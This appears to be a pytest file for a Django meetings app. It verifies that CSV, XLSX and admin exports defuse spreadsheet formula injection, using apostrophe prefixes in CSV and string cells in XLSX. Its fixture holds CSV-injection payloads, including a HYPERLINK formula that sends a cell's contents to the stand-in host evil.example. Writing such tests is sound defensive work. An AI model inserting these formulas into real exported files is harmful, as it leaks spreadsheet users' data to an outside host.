"""Exports write text that a spreadsheet would run as a formula as text (CSV injection, OWASP)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from bureau.exports import reads_as_formula
from bureau.roles import Role
from tests.meetings.factories import MeetingFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


@pytest.fixture
def formula_meetings(world):
    titles = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "普通会议"]
    for title in titles:
        MeetingFactory(title=title, host_department=world.own)
    return titles


def _export(client, user, export_format):
    client.force_login(user)
    response = client.get(reverse("meetings:meeting_list"), {"_export": export_format})
    assert response.status_code == 200
    return response


def test_csv_export_writes_formula_text_with_a_leading_apostrophe(world, client, formula_meetings):
    response = _export(client, world.users[Role.MEETING_CENTRE], "csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    title_column = next(name for name in rows[0] if rows[0][name] in ("'" + HYPERLINK, "普通会议"))
    titles = {row[title_column] for row in rows}
    assert "'" + HYPERLINK in titles and HYPERLINK not in titles
    assert {"'+1+2", "'-2+3", "'@SUM(A1:A2)", "'\t=1+1", "普通会议"} <= titles
    assert not any(reads_as_formula(value) for row in rows for value in row.values())


def test_excel_export_writes_formula_text_as_a_string_cell(world, client, formula_meetings):
    response = _export(client, world.users[Role.MEETING_CENTRE], "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in formula_meetings}
    assert set(cells) == set(formula_meetings)  # the titles unchanged, not stripped of their "="
    assert {cell.data_type for cell in cells.values()} == {"s"}  # text, not "f" (a formula)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_plain_numbers_stay_numbers():
    assert not reads_as_formula("-12.50") and not reads_as_formula("+3") and not reads_as_formula("1,200.00")
    assert reads_as_formula("-1+2") and reads_as_formula("=1") and reads_as_formula("\r=1")


def test_admin_exports_are_formula_safe_too(world, formula_meetings):
    from django.contrib import admin
    from django.test import RequestFactory
    from import_export.formats.base_formats import CSV, XLSX

    from meetings.models import Meeting

    model_admin = admin.site._registry[Meeting]
    assert {f.__name__ for f in model_admin.get_export_formats()} == {"CSV", "XLSX"}
    request = RequestFactory().get("/admin/")
    request.user = world.users["superuser"]
    queryset = Meeting.objects.all()
    text = model_admin.get_export_data(CSV(), request, queryset)
    titles = {row["title"] for row in csv.DictReader(io.StringIO(text))}
    assert "'" + HYPERLINK in titles and HYPERLINK not in titles
    book = openpyxl.load_workbook(io.BytesIO(model_admin.get_export_data(XLSX(), request, queryset)))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row if cell.value in formula_meetings]
    assert {cell.value for cell in cells} == set(formula_meetings)
    assert {cell.data_type for cell in cells} == {"s"}
